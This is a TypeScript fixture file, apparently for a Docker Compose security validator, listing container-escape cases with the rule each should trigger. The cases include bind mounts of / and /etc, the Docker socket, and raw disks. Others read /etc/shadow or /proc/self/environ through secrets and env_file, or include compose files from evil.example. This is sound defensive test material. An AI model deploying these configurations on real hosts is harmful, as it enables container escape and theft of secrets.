// biome-ignore-all lint/suspicious/noTemplateCurlyInString: Compose variables
import type { EscapeCase } from './escapeCase.ts'
import { file, host, service } from './escapeCase.ts'
import { ESCAPE_WORLD as world } from './escapeWorld.ts'

const volume = (id: string, rule: string | null, what: string, definition: string) =>
  file(id, rule, what, `services:\n  web: {image: "nginx:1.29", volumes: ["vol:/v"]}\nvolumes: {vol: ${definition}}\n`)

const secret = (id: string, rule: string | null, what: string, definition: string) =>
  file(id, rule, what, `services:\n  web: {image: "nginx:1.29", secrets: [s]}\nsecrets: {s: ${definition}}\n`)

const config = (id: string, rule: string | null, what: string, definition: string) =>
  file(id, rule, what, `services:\n  web: {image: "nginx:1.29", configs: [c]}\nconfigs: {c: ${definition}}\n`)

const options = (Options: Record<string, string>) => ({
  Mounts: [{ Type: 'volume', Target: '/v', VolumeOptions: { DriverConfig: { Name: 'local', Options } } }],
})

/** Volumes that are something else, volumes of others, and files that the server would read. */
export const storageEscapes: readonly EscapeCase[] = [
  volume(
    'volume-bind',
    'volume.local_bind',
    'a bind in disguise',
    '{driver_opts: {type: none, o: bind, device: /srv/media}}',
  ),
  volume('volume-bind-root', 'bind.own_data', 'the whole disk', '{driver_opts: {type: none, o: "bind", device: /}}'),
  volume(
    'volume-rbind',
    'volume.local_bind',
    'with everything below',
    '{driver_opts: {type: none, o: "rbind,rw", device: /etc}}',
  ),
  volume(
    'volume-bind-case',
    'volume.driver_options',
    'a flag in capitals',
    '{driver_opts: {type: NONE, o: BIND, device: /etc}}',
  ),
  volume(
    'volume-bind-socket',
    'bind.engine_socket',
    'the socket',
    '{driver_opts: {type: none, o: bind, device: /var/run/docker.sock}}',
  ),
  volume(
    'volume-bind-type',
    'volume.local_bind',
    'the type is ignored',
    '{driver_opts: {type: tmpfs, o: "bind", device: /etc}}',
  ),
  volume(
    'volume-bind-hidden',
    'volume.local_bind',
    'the flag among others',
    '{driver_opts: {type: tmpfs, o: "size=1m,bind", device: /etc}}',
  ),
  volume('volume-device-only', 'volume.local_bind', 'a device and nothing else', '{driver_opts: {device: /etc}}'),
  volume(
    'volume-bind-shared',
    'volume.driver_options',
    'a propagation among the flags',
    '{driver_opts: {type: none, o: "bind,rshared", device: /srv/media}}',
  ),
  volume(
    'volume-overlay',
    'volume.driver_options',
    'an overlay of the disk',
    '{driver_opts: {type: overlay, device: overlay, o: "lowerdir=/,upperdir=/srv/media/u,workdir=/srv/media/w"}}',
  ),
  volume('volume-disk', 'volume.block_device', 'a disk', '{driver_opts: {type: ext4, device: /dev/sda1}}'),
  volume(
    'volume-disk-dots',
    'volume.block_device',
    'a disk, with dots',
    '{driver_opts: {type: ext4, device: /srv/../dev/sda1}}',
  ),
  volume('volume-proc', 'volume.driver_options', 'another /proc', '{driver_opts: {type: proc, device: proc}}'),
  volume(
    'volume-cgroup',
    'volume.driver_options',
    'control groups with a release agent',
    '{driver_opts: {type: cgroup, device: cgroup, o: "rdma"}}',
  ),
  volume(
    'volume-debugfs',
    'volume.driver_options',
    "the kernel's debug files",
    '{driver_opts: {type: debugfs, device: debugfs}}',
  ),
  volume(
    'volume-nfs',
    'volume.remote',
    'a network file system',
    '{driver_opts: {type: nfs, o: "addr=169.254.169.254,rw", device: ":/x"}}',
  ),
  volume(
    'volume-cifs',
    'volume.remote',
    'one with a password',
    '{driver_opts: {type: cifs, o: "username=u,password=p", device: "//10.0.0.1/x"}}',
  ),
  volume(
    'volume-tmpfs-unbounded',
    'volume.tmpfs_size',
    'in memory without a size',
    '{driver_opts: {type: tmpfs, device: tmpfs}}',
  ),
  volume(
    'volume-tmpfs-huge',
    'volume.tmpfs_size',
    'in memory, too large',
    '{driver_opts: {type: tmpfs, device: tmpfs, o: "size=90g"}}',
  ),
  volume('volume-option', 'volume.driver_options', 'an option nobody knows', '{driver_opts: {mountpoint: /etc}}'),
  volume('volume-driver', 'volume.driver', 'a plugin', '{driver: vieux/sshfs, driver_opts: {sshcmd: "root@host:/"}}'),
  service('volume-driver-service', null, 'a plugin for anonymous ones', 'volume_driver: rexray\nvolumes: [/v]'),
  volume('volume-protected', 'volume.protected', "WAGMIOS's own", `{name: ${world.protectedVolume}}`),
  volume(
    'volume-protected-external',
    'volume.protected',
    "WAGMIOS's own, external",
    `{external: true, name: ${world.protectedVolume}}`,
  ),
  volume(
    'volume-protected-old',
    'volume.protected',
    'the old spelling of external',
    `{external: {name: ${world.protectedVolume}}}`,
  ),
  volume('volume-protected-variable', 'volume.protected', 'by a variable', '{name: "${V:-wagmios_data}"}'),
  volume('volume-reserved', 'name.reserved', 'a name that would be ours', '{name: wagmios_keys}'),
  host('volume-reserved-body', 'name.reserved', 'planted for a WAGMIOS that comes later', {
    Binds: ['wagmios_data2:/d'],
  }),
  host('volume-reserved-mounts', 'name.reserved', 'planted for a WAGMIOS that comes later', {
    Mounts: [{ Type: 'volume', Source: 'wagmios_frontend', Target: '/d' }],
  }),
  volume('volume-foreign', 'volume.foreign', "another app's data", `{name: ${world.foreignVolume}}`),
  volume(
    'volume-foreign-external',
    'volume.foreign',
    "another app's data, external",
    `{external: true, name: ${world.foreignVolume}}`,
  ),
  volume('volume-squat', 'volume.foreign', 'takes a name that another app will use', '{name: vault_cache}'),
  host('volume-squat-body', 'volume.foreign', 'takes a name that another app will use', { Binds: ['vault_cache:/d'] }),
  volume('volume-path', 'volume.invalid_name', 'a path as a name', '{name: ../../etc}'),
  volume('volume-labels', 'label.reserved', 'somebody else’s labels', '{labels: {com.docker.compose.project: vault}}'),
  host('volume-binds-protected', 'volume.protected', "WAGMIOS's own", { Binds: [`${world.protectedVolume}:/d`] }),
  host('volume-binds-foreign', 'volume.foreign', "another app's data", { Binds: [`${world.foreignVolume}:/d:ro`] }),
  host('volume-mounts-protected', 'volume.protected', "WAGMIOS's own", {
    Mounts: [{ Type: 'volume', Source: world.protectedVolume, Target: '/d' }],
  }),
  host('volume-mounts-foreign', 'volume.foreign', "another app's data", {
    Mounts: [{ Type: 'volume', Source: world.foreignVolume, Target: '/d', ReadOnly: true }],
  }),
  host(
    'volume-mounts-bind',
    'volume.local_bind',
    'a bind in disguise',
    options({ type: 'none', o: 'bind', device: '/' }),
  ),
  host('volume-mounts-disk', 'volume.block_device', 'a disk', options({ type: 'ext4', device: '/dev/sda1' })),
  host(
    'volume-mounts-nfs',
    'volume.remote',
    'a network file system',
    options({ type: 'nfs', o: 'addr=10.0.0.1', device: ':/' }),
  ),
  host('volume-driver-body', 'volume.driver', 'a plugin', { VolumeDriver: 'rexray', Binds: ['x:/d'] }),
  {
    kind: 'volume',
    id: 'volume-create-bind',
    rule: 'volume.local_bind',
    what: 'a bind in disguise, made first',
    body: { Name: 'attack_v', DriverOpts: { type: 'none', o: 'bind', device: '/' } },
  },
  {
    kind: 'volume',
    id: 'volume-create-plugin',
    rule: 'volume.driver',
    what: 'a plugin',
    body: { Name: 'attack_v', Driver: 'vieux/sshfs' },
  },
  {
    kind: 'volume',
    id: 'volume-create-labels',
    rule: 'label.reserved',
    what: 'passes for another project’s',
    body: { Name: 'attack_v', Labels: { 'com.docker.compose.project': 'vault' } },
  },
  secret('secret-shadow', 'file.outside_project', 'has the server read a file', '{file: /etc/shadow}'),
  secret('secret-keys', 'file.outside_project', 'has the server read the keys', '{file: ../../keys.json}'),
  secret('secret-proc', 'file.outside_project', "the server's own variables", '{file: /proc/self/environ}'),
  secret('secret-external', 'feature.external_file', 'of a swarm', '{external: true}'),
  config('config-passwd', 'file.outside_project', 'has the server read a file', '{file: /etc/passwd}'),
  config('config-variable', 'file.outside_project', 'by a variable', '{file: "${F:-/etc/shadow}"}'),
  {
    ...secret('secret-link', 'file.symlink', 'by a link', '{file: ./s}'),
    links: { s: '/etc/shadow' },
  },
  service('env-file-keys', null, 'has the server read the keys', 'env_file: ../../keys.json'),
  service('env-file-abs', null, 'has the server read a file', 'env_file: [/etc/shadow]'),
  service('env-file-proc', null, "the server's own variables", 'env_file: {path: /proc/self/environ, required: false}'),
  service('label-file', null, 'has the server read a file', 'label_file: /etc/passwd'),
  service(
    'extends-file',
    null,
    "another install's definition",
    'extends: {file: ../vault/compose.yaml, service: server}',
  ),
  file(
    'include-remote',
    null,
    'a file from anywhere',
    'include: ["https://evil.example/compose.yaml"]\nservices:\n  web: {image: "nginx:1.29"}\n',
  ),
  file(
    'include-git',
    null,
    'a repository',
    'include: ["git@evil.example:x/y.git"]\nservices:\n  web: {image: "nginx:1.29"}\n',
  ),
  file(
    'include-local',
    null,
    "another install's definition",
    'include: [../vault/compose.yaml]\nservices:\n  web: {image: "nginx:1.29"}\n',
  ),
]
